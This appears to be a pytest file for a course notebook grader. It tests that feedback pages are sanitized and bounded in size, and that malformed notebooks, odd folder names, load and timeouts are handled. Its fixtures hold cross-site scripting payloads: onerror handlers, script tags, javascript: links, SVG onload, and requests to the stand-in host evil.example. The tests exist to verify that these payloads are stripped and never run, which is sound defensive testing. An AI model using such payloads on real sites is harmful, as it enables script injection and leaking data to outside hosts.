"""`llmcourse grade` at the edges: feedback pages that carry no script and have a bounded size, no lock one
student's page holds, malformed notebooks and odd folder names, the instructor's own cells retried, limits that
measure the student's code and not the machine's load, and no 0 for a notebook that was not graded.

The first batch (01_tokens) runs in a process of its own, so that the grader's memory can be measured."""
from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from conftest import REPO
from llmcourse import grading
from llmcourse.grading.batch import rows as gradingrows, workers
from llmcourse.grading.kernel.worker import TIMES_ENV

ASSIGNMENT = "01_tokens"
SOLUTION = REPO / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
JOSE = os.fsdecode(b"Jos\xe9")  # a folder name that is not UTF-8
LONG = "n" * 252  # a folder name as long as a file name may be, nearly
MIB = 2**20

# Each payload, if it ran, would open a dialog, rename the page and send a request to another host.
RUN = "alert({n});document.title='pwned {n}';new Image().src='http://evil.example/{n}'"
DANGEROUS = r'''
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
R = {run!r}
display(HTML('<img src="x" onerror="' + R.format(n=1) + '">'))
display(HTML('<script>' + R.format(n=2) + '</script>'))
display(HTML('<iframe srcdoc="<script>parent.' + R.format(n=3) + '</script>"></iframe>'))
display(HTML('<meta http-equiv="refresh" content="0;url=http://evil.example/4">'))
display(HTML('<base href="http://evil.example/5/"><img src="relative.png">'))
display(HTML('<form action="http://evil.example/6"><input name="q"><button id="go">go</button></form>'))
display(HTML('<a id="jslink" href="javascript:' + R.format(n=7) + '">click me</a>'))
display(HTML('<img src="http://evil.example/8.png"><link rel="stylesheet" href="http://evil.example/8.css">'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + R.format(n=9) + '"><script>'
            + R.format(n=10) + '</script></svg>'))
display({{"image/png": "iVBORw0KGgo="}}, raw=True,
        metadata={{"image/png": {{"width": '1" onerror="' + R.format(n=11) + '"'}}}})
display({{"image/png": '" onerror="' + R.format(n=12) + '"'}}, raw=True)
display(Javascript(R.format(n=13)))
display(Markdown('<img src="x" onerror="' + R.format(n=14) + '"> [link](javascript:' + R.format(n=15) + ')'))
display(Latex(r'$\href{{javascript:{js}}}{{x}}$'))
print('<script>' + R.format(n=17) + '</script>')
'''.format(run=RUN, js=RUN.format(n=16))
DANGEROUS_MARKDOWN = ('<img src="x" onerror="{0}"> <script>{1}</script> [x](javascript:{2}) '
                      '<style>body {{ background: url(http://evil.example/style) }}</style> '
                      '<div style="background: url(http://evil.example/div)">styled</div>'
                      ).format(RUN.format(n=20), RUN.format(n=21), RUN.format(n=22))

HUGE = '''
from IPython.display import HTML, display
print("y" * 8 * 2**20)
for i in range(30):
    display(HTML("<b>" + "z" * 2**20 + "</b>"))
'''
HUGE_ERROR = 'raise ValueError("e" * 8 * 2**20)'
BIG_CELL = "\n".join(f"# {i:07d} " + "c" * 60 for i in range(2 * MIB // 70))


def _solution():
    return nbformat.read(SOLUTION, as_version=4)


def _with_cells(*cells, at: int = 2):
    nb = _solution()
    nb.cells[at:at] = list(cells)
    return nb


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _duplicate_grade_id():
    nb = _solution()
    copy = nbformat.from_dict(json.loads(json.dumps(_cell(nb, "cosine_similarity"))))
    copy.id = "a-copy"
    nb.cells.insert(nb.cells.index(_cell(nb, "cosine_similarity")) + 1, copy)
    return nb


def _broken_metadata():
    nb = _solution()
    _cell(nb, "cosine_similarity").metadata.nbgrader["points"] = "many"
    nb.cells[0].metadata["nbgrader"] = "not a mapping"  # an intro cell
    extra = nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": {"grade": True, "grade_id": "extra",
                                                                       "points": 100, "locked": False}})
    nb.cells.insert(3, extra)
    return nb


def _hidden_comment():
    nb = _solution()
    cell = _cell(nb, "cosine_similarity")
    cell.source = "### BEGIN HIDDEN TESTS (my note: I wonder what is in there)\n" + cell.source
    return nb


def _raw(nb) -> bytes:
    return nbformat.writes(nb).encode()


def _unknown_cell_type() -> bytes:
    data = json.loads(_raw(_solution()))
    data["cells"].insert(2, {"cell_type": "widget", "metadata": {}, "source": "hello"})
    return json.dumps(data).encode()


def _lone_surrogate() -> bytes:
    nb = _solution()
    cell = _cell(nb, "cosine_similarity")
    cell.source = cell.source + "\n# caf\ud800 au lait"
    return json.dumps(nb, ensure_ascii=True).encode()  # "\ud800": valid JSON, not a character


NOTEBOOKS = {
    "honest": lambda: _raw(_solution()),
    "dangerous": lambda: _raw(_with_cells(nbformat.v4.new_code_cell(DANGEROUS),
                                          nbformat.v4.new_markdown_cell(DANGEROUS_MARKDOWN),
                                          nbformat.v4.new_raw_cell("<script>" + RUN.format(n=23) + "</script>"))),
    "huge": lambda: _raw(_with_cells(nbformat.v4.new_code_cell(HUGE), nbformat.v4.new_code_cell(HUGE_ERROR))),
    "big_cell": lambda: _raw(_with_cells(nbformat.v4.new_code_cell(BIG_CELL))),
    "duplicate_grade_id": lambda: _raw(_duplicate_grade_id()),
    "broken_metadata": lambda: _raw(_broken_metadata()),
    "hidden_comment": lambda: _raw(_hidden_comment()),
    "unknown_cell_type": _unknown_cell_type,
    "lone_surrogate": _lone_surrogate,
    JOSE: lambda: _raw(_solution()),
    LONG: lambda: _raw(_solution()),
}
MALFORMED = {  # student: what the status must say
    "duplicate_grade_id": ["both have grade_id 'cosine_similarity'", "copied cell"],
    "unknown_cell_type": ["cell 3 has the cell type 'widget'"],
    "lone_surrogate": ["lone surrogate (U+D800)", "line"],
}

GRADE_SCRIPT = """
import json, resource, sys
from dataclasses import asdict
from llmcourse import grading
base = sys.argv[1]
rows = grading.grade(base + "/submissions", "01_tokens", out=base + "/grades.csv", feedback=base + "/feedback",
                     jobs=2, cache=base + "/cache", progress=False,
                     limits=grading.Limits(cell_timeout=30, student_timeout=300))
print(json.dumps({"rows": [asdict(r) for r in rows],
                  "rss_self": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024,
                  "rss_children": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024}))
"""


@pytest.fixture(scope="module")
def edges(tmp_path_factory):
    base = tmp_path_factory.mktemp("edges")
    subs = base / "submissions"
    for name, make in NOTEBOOKS.items():
        folder = Path(os.fsencode(subs / name).decode("utf-8", "surrogateescape"))
        folder.mkdir(parents=True)
        (folder / "work.ipynb").write_bytes(make())
    env = {**os.environ, TIMES_ENV: str(base / "times.jsonl")}
    result = subprocess.run([sys.executable, "-c", GRADE_SCRIPT, str(base)], capture_output=True, text=True,
                            env=env, errors="replace")
    assert result.returncode == 0, result.stderr[-5000:]
    out = json.loads(result.stdout.strip().splitlines()[-1])
    rows = {r["student"]: gradingrows.Row.from_dict(r) for r in out["rows"]}
    times: dict[str, dict[str, float]] = {}
    for line in (base / "times.jsonl").read_text(errors="surrogateescape").splitlines():
        event = json.loads(line)
        times.setdefault(event["student"], {}).setdefault(event["stage"], event["t"])
    return {"rows": rows, "base": base, "out": out, "times": times}


def _page(edges, student) -> str:
    return (edges["base"] / "feedback" / gradingrows.feedback_name(student)).read_text(encoding="utf-8")


def _text(page: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", page))


def _full(row) -> bool:
    return row.status == "graded" and row.score == row.max_score > 0


# --- feedback pages carry no script (issue 27, item 9) ---------------------------------------------------------

class _Tags(HTMLParser):
    """Every tag of a page, with its attributes."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def test_every_dangerous_output_is_gone_from_the_page(edges):
    row = edges["rows"]["dangerous"]
    assert _full(row), row.status  # the outputs cost nothing: the page is made safe, the grade is untouched
    page = _page(edges, "dangerous")
    head, body = page.split("</head>", 1)
    assert "Content-Security-Policy" in head and "default-src 'none'" in head
    assert re.findall(r"<script[^>]*>", head) == ['<script src="mathjax/config.js">',
                                                   '<script src="mathjax/tex-chtml.js">']
    parser = _Tags()
    parser.feed(body)
    names = {tag for tag, _ in parser.tags}
    assert not names & {"script", "iframe", "meta", "base", "form", "input", "link", "svg", "style", "object",
                        "embed"}, names
    for tag, attrs in parser.tags:
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in ("srcdoc", "style", "action"), (tag, name, value)
            assert not value.strip().lower().startswith("javascript"), (tag, name, value)
            assert "evil.example" not in value or (tag, name) == ("a", "href"), (tag, name, value)  # links stay
        if tag == "img":
            assert attrs.get("src", "data:image/").startswith("data:image/"), attrs
            assert all(attrs.get(k, "1").isdigit() for k in ("width", "height")), attrs
    text = _text(body)
    assert "click me" in text and "styled" in text  # the text of what was removed stays


@pytest.fixture(scope="module")
def browser():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    assert chromium, "Chromium is not installed: `make system` installs Debian's `chromium` package"
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield browser
        browser.close()


def test_feedback_pages_run_no_script_and_send_no_request_in_a_browser(edges, browser):
    """Each page opened from disk (as a student opens it) in headless Chromium: no payload runs (no dialog, the
    title unchanged), no request leaves the folder, and MathJax, the one script allowed, still renders maths."""
    folder = edges["base"] / "feedback"
    for student in ["dangerous", "huge", "honest"]:
        context = browser.new_context()
        seen = []

        def route(r, seen=seen):
            url = r.request.url
            if url.startswith(folder.as_uri() + "/") or url.startswith("data:"):
                return r.continue_()
            seen.append(f"request {url}")
            return r.abort()
        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda d, seen=seen: (seen.append(f"dialog {d.message}"), d.dismiss()))
        page.on("pageerror", lambda e, seen=seen: seen.append(f"script error {e}"))
        page.goto((folder / gradingrows.feedback_name(student)).as_uri(), wait_until="load")
        page.evaluate("() => MathJax.startup.promise")
        for link in page.query_selector_all("a"):  # a link that runs script when followed would run now
            if (link.get_attribute("href") or "").startswith("javascript"):
                link.click()
        page.wait_for_timeout(500)
        title = page.title()
        maths = page.evaluate("() => document.querySelectorAll('mjx-container').length")
        context.close()
        assert not seen, f"{student}: {seen}"
        assert title == ASSIGNMENT, f"{student}: a script renamed the page: {title}"
        assert maths > 0, f"{student}: MathJax rendered no formula (the CSP must let it run)"


# --- size and time (items 10, 11) -------------------------------------------------------------------------

def test_huge_outputs_are_cut_and_the_grader_stays_small(edges):
    row = edges["rows"]["huge"]
    assert _full(row), row.status  # printing is not a mistake
    page = edges["base"] / "feedback" / "huge.html"
    assert page.stat().st_size < 4 * MIB, f"the page is {page.stat().st_size / MIB:.1f} MiB"
    text = _text(page.read_text(encoding="utf-8"))
    assert "truncated" in text and "ValueError: eeee" in text
    sizes = sorted(p.stat().st_size for p in (edges["base"] / "feedback").glob("*.html"))
    assert sizes[-1] < 4 * MIB
    print(f"largest page {sizes[-1] / MIB:.2f} MiB, grader {edges['out']['rss_self'] / 2**30:.2f} GiB, "
          f"largest worker or kernel {edges['out']['rss_children'] / 2**30:.2f} GiB")
    # about 0.35 GiB each for 11 students on this machine, the grader 1.9 GiB in a clean-clone run (its torch and
    # judge included); the huge outputs once took the grader to 3.6 GiB
    # 1.87 GiB measured before exercise 08's training check (its judge loads a GPT and the plays); 3.20 after
    assert edges["out"]["rss_self"] < 4 * 2**30, f"grader: {edges['out']['rss_self'] / 2**30:.2f} GiB"
    assert edges["out"]["rss_children"] < 1.5 * 2**30, f"a worker: {edges['out']['rss_children'] / 2**30:.2f} GiB"


def test_a_big_cell_holds_no_lock_that_others_wait_for(edges):
    """Making a student's page (from the verdicts to the page written) takes less time than running the
    student's notebook did, for every student: no page waits for another's (the 2 MB cell once held a lock
    for 90 s while everyone waited), and a 2 MB cell is shown cut."""
    times = edges["times"]
    for student, row in edges["rows"].items():
        stages = times.get(student, {})
        if "judged" not in stages:
            continue
        making = stages["feedback written"] - stages["judged"]
        assert making < row.seconds, f"{student}: its page took {making:.1f} s, its notebook {row.seconds} s"
    assert _full(edges["rows"]["big_cell"])
    text = _text(_page(edges, "big_cell"))
    assert "cell cut" in text and len(text) < 2 * MIB


# --- malformed notebooks, odd folder names (items 12, 13) ------------------------------------------------------

@pytest.mark.parametrize("student", sorted(MALFORMED))
def test_a_malformed_notebook_says_what_is_wrong(edges, student):
    row = edges["rows"][student]
    assert row.status.startswith("not graded: the notebook is malformed: "), row.status
    for words in MALFORMED[student]:
        assert words in row.status, row.status
    assert row.score is None and "environment" not in row.status


@pytest.mark.parametrize("student", ["broken_metadata", "hidden_comment"])
def test_what_can_be_mended_safely_is_graded(edges, student):
    row = edges["rows"][student]
    assert _full(row), f"{row.status}: {row.message}"
    assert (edges["base"] / "feedback" / f"{student}.html").exists()


def test_odd_folder_names_are_graded_and_the_csv_is_written(edges):
    for student in [JOSE, LONG]:
        row = edges["rows"][student]
        assert _full(row), row.status
        assert (edges["base"] / "feedback" / gradingrows.feedback_name(student)).exists()
    with open(edges["base"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert len(rows) == len(NOTEBOOKS)
    assert rows["Jos\ufffd"]["score"] == rows["honest"]["score"] and rows[LONG]["score"] == rows["honest"]["score"]
    assert all(r["score"] == "" for r in rows.values() if r["status"].startswith("not graded"))


def test_a_foreign_notebook_is_not_graded_and_scores_nothing(tmp_path):
    """Every row written without grading has an empty score and a `not graded:` status (issue 28, item 3)."""
    subs = tmp_path / "submissions"
    other = nbformat.read(REPO / "solutions" / "02_word2vec" / "02_word2vec.ipynb", as_version=4)
    for name, files in {"other": {"a.ipynb": nbformat.writes(other).encode()}, "none": {"notes.txt": b"-"},
                        "two": {"a.ipynb": b"{}", "b.ipynb": b"{}"}, "broken": {"a.ipynb": b"{"}}.items():
        (subs / name).mkdir(parents=True)
        for file, data in files.items():
            (subs / name / file).write_bytes(data)
    rows = {r.student: r for r in grading.grade(subs, ASSIGNMENT, out=tmp_path / "grades.csv", jobs=1,
                                                 cache=tmp_path / "cache", progress=False)}
    assert rows["other"].status.startswith(f"not graded: not a {ASSIGNMENT} notebook"), rows["other"].status
    for row in rows.values():
        assert row.score is None and row.status.startswith("not graded: "), (row.student, row.status)
        assert row.csv_row()["score"] == ""


# --- under load: the instructor's cells retried, limits in CPU time (issue 28, items 1, 2) -----------------

class Busy:
    """A busy machine, at no cost of CPU time: every process this test starts (the grader's workers, their
    kernels, what those start) runs for `share` of every 100 ms and is stopped for the rest, as on a core it
    shares with others: it gets at most that share of the clock's time, however quiet the machine. The suite's
    other worker keeps its core (CPU burners, one per core, took it). Every process is continued on leaving, also
    when the test fails."""

    SLICE = 0.1

    def __init__(self, share: float = 0.5):
        self.running = self.SLICE * share

    def __enter__(self):
        self.before = self._children()[os.getpid()]  # already running (the book's build, under xdist): left alone
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()
        return self

    @staticmethod
    def _children() -> dict[int, list[int]]:
        children: dict[int, list[int]] = {os.getpid(): []}
        for entry in os.scandir("/proc"):
            if entry.name.isdigit():
                try:
                    stat = Path(entry.path, "stat").read_text()
                except OSError:
                    continue
                ppid = int(stat.rsplit(")", 1)[1].split()[1])
                children.setdefault(ppid, []).append(int(entry.name))
        return children

    def _descendants(self) -> set[int]:
        children = self._children()
        found, todo = set(), [pid for pid in children[os.getpid()] if pid not in self.before]
        while todo:
            pid = todo.pop()
            found.add(pid)
            todo += children.get(pid, [])
        return found

    def _signal(self, pids, sig) -> None:
        for pid in pids:
            try:
                os.kill(pid, sig)
            except (ProcessLookupError, PermissionError):
                pass

    def _run(self):
        while not self.done.is_set():
            stopped = self._descendants()
            self._signal(stopped, signal.SIGSTOP)
            self.done.wait(self.SLICE - self.running)
            self._signal(stopped, signal.SIGCONT)
            self.done.wait(self.running)

    def __exit__(self, *exc):
        self.done.set()
        self.thread.join()
        self._signal(self._descendants(), signal.SIGCONT)


def test_under_load_a_failing_set_up_cell_never_costs_a_student(tmp_path, monkeypatch):
    """3 x cores honest notebooks at once on a busy machine (`Busy`); one student's set-up cell fails on its first
    run, another's on every run (a fault the grader injects into its worker's request: no kernel can). Every
    row is full marks, or `not graded` with an empty score and the cell's own error: never a partial score."""
    subs = tmp_path / "submissions"
    n = 3 * (os.cpu_count() or 1)
    for i in range(n):
        (subs / f"s{i:02d}").mkdir(parents=True)
        shutil.copyfile(SOLUTION, subs / f"s{i:02d}" / "work.ipynb")
    monkeypatch.setattr(workers, "INJECT_SETUP_FAULTS", {"s00": 1, "s01": 99})
    with Busy():
        rows = {r.student: r for r in grading.grade(subs, ASSIGNMENT, out=tmp_path / "grades.csv", jobs=n,
                                                     cache=tmp_path / "cache", progress=False)}
    assert len(rows) == n
    for row in rows.values():
        assert _full(row) or (row.score is None and row.status.startswith("not graded")), (row.student, row.status,
                                                                                          row.message)
    assert _full(rows["s00"]), "a set-up cell that failed once must be run again"
    assert rows["s01"].score is None and "RuntimeError: a fault injected" in rows["s01"].status, rows["s01"].status
    assert "set-up" in rows["s01"].status or "instructor" in rows["s01"].status


SLOW_TRAIN_STEP = '''
def train_step(W_in, W_out, centers, contexts, negatives, lr):
    """Correct, but slow: a Python loop over the batch, a few pairs at a time (gradients from the weights
    before the step, then the updates)."""
    grads = [(b, sgns_gradients(W_in[centers[b:b + 16]], W_out[contexts[b:b + 16]], W_out[negatives[b:b + 16]]))
             for b in range(0, len(centers), 16)]
    for b, (g_c, g_o, g_n) in grads:
        W_in.index_add_(0, centers[b:b + 16], g_c, alpha=-lr)
        W_out.index_add_(0, contexts[b:b + 16], g_o, alpha=-lr)
        W_out.index_add_(0, negatives[b:b + 16].reshape(-1), g_n.reshape(-1, g_n.shape[-1]), alpha=-lr)
    return W_in, W_out
'''
ENDLESS_TRAIN = '''
def train(sentences, dim=20, window=3, negative=5, epochs=10, lr=0.05, batch_size=256, seed=0):
    while True:
        pass
'''


def test_limits_count_the_students_cpu_time_not_the_machines_load(tmp_path):
    """On a busy machine a correct but slow train_step (02_word2vec) keeps its points: its test cells use less CPU
    time than their limit of 5 s (about 1.7 s each), though more wall-clock time (about 7 s, with a quarter of the
    clock: `Busy(0.25)`); an endless loop is still stopped, with its message."""
    from conftest import plant

    source = nbformat.read(REPO / "solutions" / "02_word2vec" / "02_word2vec.ipynb", as_version=4)
    subs = tmp_path / "submissions"
    for name, (cell, code) in {"slow": ("train_step", SLOW_TRAIN_STEP), "endless": ("train", ENDLESS_TRAIN)}.items():
        (subs / name).mkdir(parents=True)
        nbformat.write(plant(source, cell, code), subs / name / "work.ipynb")
    limits = grading.Limits(cell_timeout=5, student_timeout=300)
    started = time.monotonic()
    with Busy(0.25):
        rows = {r.student: r for r in grading.grade(subs, "02_word2vec", out=tmp_path / "grades.csv", jobs=2,
                                                     cache=tmp_path / "cache", limits=limits, progress=False)}
    took = time.monotonic() - started
    slow, endless = rows["slow"], rows["endless"]
    assert _full(slow), f"{slow.status}: {slow.message} (the batch took {took:.0f} s)"
    for cell in ["test_train", "test_train_hidden"]:
        assert endless.cells[cell][0] == 0, endless.cells
    # stopped by its CPU time, or, if the machine is so busy that it cannot get 5 s of CPU in 25 s, by the clock
    assert "CellTimeoutError: the cell ran longer than 5 s" in endless.message, endless.message
    assert endless.score == endless.max_score - 3, "the other cells must keep their points"


def test_a_page_made_from_any_notebook_is_safe_and_bounded():
    """`feedback_page` alone (no grading): dangerous outputs as a kernel could send them, huge outputs and
    6,000 cells give a page with no script of its own, a few MiB at most, and a "truncated" line."""
    from llmcourse.grading.batch import feedback, judge

    source = _solution()
    verdicts = judge.judge(judge.test_cells(source), {})
    out = nbformat.v4.new_output
    cell = nbformat.v4.new_code_cell("print(1)")
    cell.outputs = [out("display_data", data={"text/html": '<img src=x onerror="alert(1)"><script>alert(2)</script>',
                                              "application/javascript": "alert(3)"}),
                    out("display_data", data={"image/svg+xml": "<svg onload='alert(4)'><script>alert(5)</script></svg>"}),
                    out("display_data", data={"image/png": '" onerror="alert(6)'}),
                    out("display_data", data={"image/png": "iVBORw0KGgo="},
                        metadata={"image/png": {"width": '1" onerror="alert(7)'}}),
                    out("stream", name="stdout", text="x" * 5 * MIB),
                    out("error", ename="ValueError", evalue="e" * 5 * MIB, traceback=["t" * MIB])]
    many = [nbformat.from_dict({"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": f"print({i})",
                                "execution_count": None,
                                "outputs": [{"output_type": "stream", "name": "stdout", "text": "y" * 100}]})
            for i in range(6_000)]  # more than a page shows (3,000)
    nb = _solution()
    nb.cells[2:2] = [cell, *many]
    page = feedback.feedback_page(nb, verdicts, SOLUTION.name)
    body = page.split("</head>", 1)[1]
    parser = _Tags()
    parser.feed(body)
    assert not {tag for tag, _ in parser.tags} & {"script", "svg", "iframe"}
    assert not [a for _, attrs in parser.tags for a in attrs if a.startswith("on")]
    assert len(page) < 8 * MIB and "truncated" in _text(body)
    assert "cells not shown" in _text(body)
    assert "check_sinusoidal_positions" in _text(body), "the test cells after the cut must still be shown"
